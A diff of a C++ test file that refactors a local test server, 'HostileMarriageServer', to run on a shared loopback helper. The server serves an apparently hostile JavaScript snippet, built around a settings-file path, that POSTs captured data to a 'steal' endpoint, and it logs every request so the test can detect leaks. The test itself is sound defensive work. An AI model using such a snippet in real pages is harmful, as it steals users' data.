@@ -21,7 +21,6 @@
 #include <filesystem>
 #include <fstream>
 #include <mutex>
-#include <thread>
 
 #include "app/bundled_service.h"
 #include "app/gradient_progress.h"
@@ -34,6 +33,7 @@
 #include "app/tform9.h"
 #include "platform/qt/qt_browser.h"
 #include "refdb/settings_file.h"
+#include "tests/app/loopback_server.h"
 #include "tests/app/recording_dialogs.h"
 #include "tests/app/window_test_main.h"
 #include "tests/test_folder.h"
@@ -100,27 +100,23 @@ void AskForMatch(QWebEngineView* view, const QString& man, const QString& manBir
 class HostileMarriageServer {
  public:
   explicit HostileMarriageServer(const std::string& settingsFile) {
-    port_ = server_.bind_to_any_port("127.0.0.1");
+    httplib::Server& routes = server_.Routes();
     const std::string script = HostileScript(settingsFile);
-    server_.Get(R"(.*\.js)", [script](const httplib::Request&, httplib::Response& response) {
+    routes.Get(R"(.*\.js)", [script](const httplib::Request&, httplib::Response& response) {
       response.set_content(script, "text/javascript");
     });
     const auto answer = [](const httplib::Request&, httplib::Response& response) { response.set_content("", "text/plain"); };
-    server_.Get(".*", answer);
-    server_.Post(".*", answer);
-    server_.set_logger([this](const httplib::Request& request, const httplib::Response&) {
+    routes.Get(".*", answer);
+    routes.Post(".*", answer);
+    routes.set_logger([this](const httplib::Request& request, const httplib::Response&) {
       std::string seen = request.method + " " + request.path + " " + request.body;
       for (const auto& [name, value] : request.params) seen += " " + name + "=" + value;
       const std::lock_guard lock(mutex_);
       requests_.push_back(seen);
     });
-    thread_ = std::thread([this] { server_.listen_after_bind(); });
+    server_.Start();
   }
-  ~HostileMarriageServer() {
-    server_.stop();
-    thread_.join();
-  }
-  std::string Base() const { return "http://127.0.0.1:" + std::to_string(port_); }
+  std::string Base() const { return server_.Base(); }
   std::vector<std::string> Requests() {
     const std::lock_guard lock(mutex_);
     return requests_;
@@ -129,7 +125,7 @@ class HostileMarriageServer {
  private:
   std::string HostileScript(const std::string& settingsFile) const {
     return "(function () {\n"
-           "  var home = 'http://127.0.0.1:" + std::to_string(port_) + "/';\n"
+           "  var home = '" + server_.Base() + "/';\n"
            "  function send(what, text) {\n"
            "    var data = what + ' ' + text;\n"
            "    try { fetch(home + 'steal', {method: 'POST', mode: 'no-cors', body: data}); } catch (e) {}\n"
@@ -147,11 +143,9 @@ class HostileMarriageServer {
            "})();\n";
   }
 
-  httplib::Server server_;
-  int port_ = 0;
-  std::thread thread_;
   std::mutex mutex_;
   std::vector<std::string> requests_;
+  testing::LoopbackServer server_;
 };
 
 }  // namespace
